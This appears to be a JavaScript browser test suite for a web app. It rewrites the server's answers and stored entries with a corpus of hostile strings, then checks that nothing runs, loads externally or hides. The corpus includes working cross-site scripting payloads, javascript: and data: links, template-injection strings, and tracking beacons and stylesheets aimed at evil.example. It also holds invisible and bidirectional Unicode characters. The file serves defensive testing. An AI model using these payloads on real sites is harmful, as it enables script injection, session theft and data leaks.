// Hostile text in every place that shows text. The server's answers are rewritten on their way: every text in them
// becomes one of the corpus, then every text whatever it means. Nothing may run, nothing may be asked of another
// place, and nothing may hide.

import assert from "node:assert/strict";
import { assertQuiet, PAGES, rows, settled } from "./harness.mjs";

const RUN = "window.__executed=(window.__executed||0)+1";

const CORPUS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `"><svg onload=${RUN}>`,
  `' autofocus onfocus='${RUN}' x='`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<a href="javascript:${RUN}">a</a>`,
  `<style>@import url(https://evil.example/a.css)</style>`,
  `<link rel=stylesheet href=https://evil.example/b.css><meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<form action=https://evil.example/><button>x</button></form>`,
  `![beacon](https://evil.example/pixel.png?leak=1)`,
  `![beacon][1]\n\n[1]: https://evil.example/pixel.png`,
  `[click](javascript:${RUN})`,
  `[click](javascript:window.__executed=1)`,
  `[click](\u0001javascript:window.__executed=1)`,
  `[click](java\tscript:window.__executed=1)`,
  `[click](//evil.example/x) [click](/api/logout) [click](#/queue)`,
  `[click](JaVaScRiPt:${RUN})`,
  `[click](data:text/html,<script>${RUN}</script>)`,
  `[click](vbscript:${RUN})`,
  `[click](https://user:secret@evil.example/)`,
  `[https://good.example](https://evil.example/)`,
  `<https://evil.example/"onmouseover="${RUN}>`,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `| a | b |\n|---|---|\n| <script>${RUN}</script> | ![x](https://evil.example/t.png) |`,
  `file\u202egnp.exe\u202c \u2066isolated\u2069 zero\u200bwidth \ufeffmark tag\u{e0041}\u{e0042}`,
  `\u001b[31mred\u001b[0m\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007 \u0000null \u0008back \u007f \u009b31m`,
  `\${${RUN}} {{constructor.constructor('${RUN}')()}} %3Cscript%3E`,
  `__proto__`,
  `constructor`,
  `*`.repeat(3_000),
  `[`.repeat(3_000),
  `# a${" ".repeat(3_000)}x`,
  `> `.repeat(400) + "deep",
  `- `.repeat(400) + "deep",
];

// What the page's own code branches on, or asks for again.
const WORDS = new Set([
  "id",
  "agent",
  "session_id",
  "run_id",
  "event_id",
  "memory_id",
  "job_id",
  "type",
  "trust",
  "status",
  "state",
  "digest",
  "day",
  "created",
  "updated",
  "last_verified",
  "from",
  "to",
  "relation",
  "version",
]);

const HIDDEN = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\u{e0000}-\u{e007f}]/u;

/** Every text in a value becomes one of the corpus; keys of `kept` stay. */
function poisoned(value, kept, turn, key = "") {
  if (typeof value === "string") return kept.has(key) ? value : CORPUS[turn.count++ % CORPUS.length];
  if (Array.isArray(value))
    return value.length === 0 || typeof value[0] !== "string" || kept.has(key)
      ? value.map((item) => poisoned(item, kept, turn, key))
      : CORPUS.slice(0, 6 + (turn.count % 6)).concat(CORPUS[turn.count++ % CORPUS.length]);
  if (value && typeof value === "object")
    return Object.fromEntries(Object.entries(value).map(([name, item]) => [name, poisoned(item, kept, turn, name)]));
  return value;
}

/** Rewrites all answers of a page from here on; `offset` is where in the corpus it starts. */
async function poison(page, kept, offset) {
  const turn = { count: offset };
  await page.route(/\/api\/(?!events|login)/, async (route) => {
    try {
      const response = await route.fetch();
      if (!response.ok()) return await route.fulfill({ response });
      return await route.fulfill({ response, json: poisoned(await response.json(), kept, turn) });
    } catch (cause) {
      // The page went on, or was closed, before the answer came.
      return route.abort().catch(() => cause);
    }
  });
}

async function assertHarmless(page, where) {
  const found = await page.evaluate(() => {
    const problems = [];
    if (window.__executed || window.__pwned) problems.push("something ran");
    for (const element of document.querySelectorAll("#app *, dialog *, #messages *")) {
      if (
        ["SCRIPT", "IMG", "IFRAME", "OBJECT", "EMBED", "STYLE", "LINK", "META", "BASE", "VIDEO", "AUDIO"].includes(
          element.tagName.toUpperCase(),
        )
      )
        problems.push(`a ${element.tagName}`);
      if (element.tagName === "FORM" && element.hasAttribute("action")) problems.push("a form that leads elsewhere");
      for (const attribute of element.attributes) {
        if (/^on/i.test(attribute.name) || ["src", "srcdoc", "action", "formaction"].includes(attribute.name))
          problems.push(`${element.tagName} ${attribute.name}`);
      }
      const href = element.getAttribute("href");
      if (href !== null && !href.startsWith("#") && !/^https?:\/\/[^@]*$/.test(href))
        problems.push(`a link to ${href}`);
      if (href !== null && !href.startsWith("#") && !/noopener/.test(element.getAttribute("rel") ?? ""))
        problems.push(`a link without noopener to ${href}`);
    }
    const hidden =
      /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\u{e0000}-\u{e007f}]/u;
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    while (walker.nextNode())
      if (hidden.test(walker.currentNode.data))
        problems.push(
          `hidden characters in ${walker.currentNode.parentElement.className}: ${JSON.stringify(walker.currentNode.data.slice(0, 60))}`,
        );
    for (const element of document.querySelectorAll("[title], [aria-label], [placeholder]")) {
      for (const name of ["title", "aria-label", "placeholder"])
        if (hidden.test(element.getAttribute(name) ?? "")) problems.push(`hidden characters in ${name}`);
    }
    return [...new Set(problems)];
  });
  assert.deepEqual(found, [], where);
  assert.deepEqual(page.problems, [], where);
}

/** Opens what is folded, and passes the pointer and the focus over what there is. */
async function stir(page) {
  await page.evaluate(() => {
    for (const details of document.querySelectorAll("details")) details.open = true;
    for (const element of [...document.querySelectorAll("a, button, summary, [tabindex]")].slice(0, 200)) {
      element.dispatchEvent(new PointerEvent("pointerenter", { bubbles: true }));
      element.dispatchEvent(new MouseEvent("mouseover", { bubbles: true }));
      element.focus({ preventScroll: true });
    }
    for (const scroller of document.querySelectorAll("main, .virtual, .pane, .conversation"))
      scroller.scrollTop = scroller.scrollHeight;
  });
  await settled(page);
}

async function places(browser) {
  const [{ memories: items }, { runs }, { sessions }] = await Promise.all([
    browser.api("GET", "/api/memories?limit=5"),
    browser.api("GET", "/api/runs?limit=5"),
    browser.api("GET", "/api/sessions?limit=3"),
  ]);
  return [
    ...PAGES.map((name) => `#/${name}`),
    ...items.slice(0, 3).map((item) => `#/memories/${encodeURIComponent(item.id)}`),
    ...runs.slice(0, 3).map((run) => `#/runs/${encodeURIComponent(run.run_id)}`),
    ...sessions
      .slice(0, 2)
      .map((one) => `#/sessions/${encodeURIComponent(one.agent)}/${encodeURIComponent(one.id)}`),
  ];
}

async function visitAll(browser, kept, offset) {
  const visited = await places(browser);
  const page = await browser.open("#/home", { before: (one) => poison(one, kept, offset) });
  for (const place of visited) {
    await browser.go(page, place);
    await settled(page);
    await stir(page);
    await assertHarmless(page, place);
  }
  return visited.length;
}

export const checks = {
  async "hostile: text of the corpus in every page does nothing and hides nothing"(browser) {
    let count = 0;
    for (const offset of [0, 8, 16, 24]) {
      count += await visitAll(browser, WORDS, offset);
      await browser.closePages();
    }
    return `${CORPUS.length} texts, ${count} visits`;
  },

  async "hostile: every text of every answer, also ids and states"(browser) {
    let count = 0;
    for (const offset of [0, 11]) {
      count += await visitAll(browser, new Set(), offset);
      await browser.closePages();
    }
    return `${count} visits`;
  },

  async "hostile: what the server itself has, on every page"(browser) {
    const page = await browser.open("#/home");
    for (const place of await places(browser)) {
      await browser.go(page, place);
      await settled(page);
      await stir(page);
      await assertHarmless(page, place);
    }
  },

  async "hostile: stored, searched, opened, edited, asked for"(browser) {
    const ids = [];
    for (const [index, text] of CORPUS.slice(0, 27).entries()) {
      const title = `Wombat ${index} ${text.replaceAll(/\s+/g, " ").slice(0, 100)}`;
      const body = `${text}\n\nwombat ${CORPUS[(index + 9) % CORPUS.length].slice(0, 5_000)}`;
      // The server keeps no text with characters that a terminal obeys or nobody sees.
      if (HIDDEN.test(title + body)) await assert.rejects(browser.newMemory(title, { body }), /400/);
      else ids.push(await browser.newMemory(title, { body }));
    }
    assert.ok(ids.filter(Boolean).length > 15, `${ids.length} of the corpus are stored`);
    const page = await browser.open("#/memories?q=wombat");
    await rows(page).first().waitFor();
    await assertHarmless(page, "search");
    for (const id of new Set(ids.filter(Boolean))) {
      await browser.go(page, `#/memories/${encodeURIComponent(id)}`);
      await page.locator("article.memory").waitFor();
      await stir(page);
      await assertHarmless(page, id);
    }
    await page.keyboard.press("e");
    await page.locator("dialog[open]").getByRole("button", { name: "Preview" }).click();
    await assertHarmless(page, "preview");
    await page.keyboard.press("Escape");
    const shown = await page.locator("main").innerText();
    assert.doesNotMatch(shown, /\u202e/);
    await browser.go(page, "#/ask");
    await page.getByLabel("What do you want to know?").fill(`wombat ${CORPUS[0]} ${CORPUS[24]}`);
    await page.keyboard.press("Enter");
    await page.locator(".answer, [role=alert]").first().waitFor();
    await assertHarmless(page, "ask");
  },

  async "hostile: an address cannot be made to run"(browser) {
    const page = await browser.open("#/home");
    for (const text of CORPUS.slice(0, 29)) {
      for (const fragment of [
        `#/${encodeURIComponent(text)}`,
        `#/memories/${encodeURIComponent(text)}`,
        `#/memories?q=${encodeURIComponent(text)}`,
        `#/runs/${encodeURIComponent(text)}`,
        `#/sessions/${encodeURIComponent(text)}/x?event=${encodeURIComponent(text)}`,
        `#/queue?state=${encodeURIComponent(text)}`,
        `#/${text}`,
        `#/%E0%A4%A`,
      ]) {
        await browser.go(page, fragment);
      }
      await settled(page);
      await assertHarmless(page, text);
    }
  },

  async "hostile: events of the stream do nothing"(browser) {
    const stream = CORPUS.map(
      (text, index) =>
        `id: ${index}\ndata: ${JSON.stringify({ id: String(index), at_ms: Date.now(), kind: text, name: text, project: text, fields: { job_id: text, job_kind: text } })}\n\n`,
    ).join("");
    const page = await browser.open("#/home", {
      before: (one) =>
        one.route("**/api/events*", (route) =>
          route.fulfill({
            contentType: "text/event-stream",
            body: `${stream}data: not json\n\ndata: null\n\ndata: 7\n\n`,
          }),
        ),
    });
    await settled(page);
    await assertHarmless(page, "stream");
  },

  async "hostile: a link shows where it leads, an image is words"(browser) {
    const id = await browser.newMemory("Yaks and links", {
      body: "[bank](https://evil.example/login) and ![pixel](https://evil.example/p.png) and [x](javascript:alert(1)) and [y](javascript:void) and [z](https://en.example/wiki/A_(b)) and https://plain.example/a",
    });
    const page = await browser.open(`#/memories/${encodeURIComponent(id)}`);
    const prose = page.locator("article .prose").first();
    await prose.waitFor();
    const text = await prose.innerText();
    assert.match(text, /bank https:\/\/evil\.example\/login/);
    assert.match(text, /image not loaded: pixel https:\/\/evil\.example\/p\.png/);
    assert.match(text, /\[x\]\(javascript:alert\(1\)\) and \[y\]\(javascript:void\)/);
    assert.deepEqual(
      await prose
        .locator("a")
        .evaluateAll((links) => links.map((link) => [link.getAttribute("href"), link.rel, link.target])),
      [
        ["https://evil.example/login", "noopener noreferrer", "_blank"],
        ["https://en.example/wiki/A_(b)", "noopener noreferrer", "_blank"],
        ["https://plain.example/a", "noopener noreferrer", "_blank"],
      ],
    );
    assertQuiet(page);
  },
};
